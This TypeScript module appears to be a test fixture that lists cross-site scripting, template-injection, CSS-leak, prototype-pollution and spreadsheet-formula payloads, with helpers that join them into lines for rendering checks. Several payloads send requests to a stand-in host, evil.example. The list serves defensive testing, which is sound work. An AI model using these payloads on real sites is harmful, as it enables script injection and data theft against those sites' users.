/**
 * What would run, ask for something or lead away if a page took it for anything but text: one for each place in a page, a
 * style, an address, a template or a table where what people write can end up. Whatever runs sets `ran`; whatever is asked
 * for is called `stolen`, or stands at evil.example.
 */
export const PAYLOADS: readonly string[] = [
  '<script>ran=1</script>',
  '</textarea></script></style></title><svg onload=ran=1>',
  ']]>--><script>alert(ran=1)</script><!--',
  '"><img src=/stolen onerror=ran=1>',
  "' autofocus onfocus=ran=1 x='",
  '<details open ontoggle=ran=1>',
  '<x style=animation-name:a onanimationend=ran=1>',
  'javascript:ran=1//',
  '<a href=" java&#9;script:ran=1" ping=/stolen>a</a>',
  '[a](javascript:ran=1) ![a](/stolen)',
  'data:text/html,<script>ran=1</script>',
  "{{constructor.constructor('ran=1')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's.
  "${constructor.constructor('ran=1')()}",
  '<style>*{background:url(/stolen)}</style>',
  '};*{background:url(//evil.example/stolen)',
  '<img srcset="/stolen 1x, //evil.example/ 2x">',
  '<video src=/stolen poster=/stolen onerror=ran=1>',
  '<link rel=stylesheet href=/stolen>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;url=/stolen>',
  '<iframe srcdoc="<script>parent.ran=1</script>">',
  '<object data=/stolen></object><embed src=/stolen>',
  '<form action=/stolen><button formaction=javascript:ran=1>',
  '<svg><image href=/stolen /><set onbegin=ran=1 /></svg>',
  '<math href=javascript:ran=1><mtext><img src=/stolen>',
  '<noscript><p title="</noscript><img src=x onerror=ran=1>">',
  '&lt;img src=/stolen onerror=ran=1&gt;&#60;script&#62;',
  '\\u003cscript\\u003eran=1\\u003c/script\\u003e\\x3cb\\x3e',
  '%3Cscript%3Eran=1%3C%2Fscript%3E',
  '+ADw-script+AD4-ran=1+ADw-/script+AD4-',
  '\uff1cimg src=/stolen onerror=ran=1\uff1e',
  '","__proto__":{"ran":1},"a":"',
  '=HYPERLINK("//evil.example/stolen")',
]

/** All of them in one text, each on a line of its own that begins with the name of what they are written into. */
export const everyPayload = (field: string): string => linesOf(field).join('\n')

/** The lines of that text: what is to be read on a page that shows it. */
export const linesOf = (field: string): string[] => PAYLOADS.map((it) => `${field} ${it}`)

/** All of them in as few single lines as hold them, each of them whole. @param mostLetters of a line */
export const payloadLines = (mostLetters: number): string[] => {
  const lines: string[] = []
  for (const payload of PAYLOADS) {
    const longer = `${lines.at(-1)} ${payload}`
    if (lines.length > 0 && longer.length <= mostLetters) lines[lines.length - 1] = longer
    else lines.push(payload)
  }
  return lines
}

/** Those that fit in a line that is too short for some. */
export const shortPayloads = (mostLetters: number): string[] =>
  PAYLOADS.filter(({ length }) => length <= mostLetters)
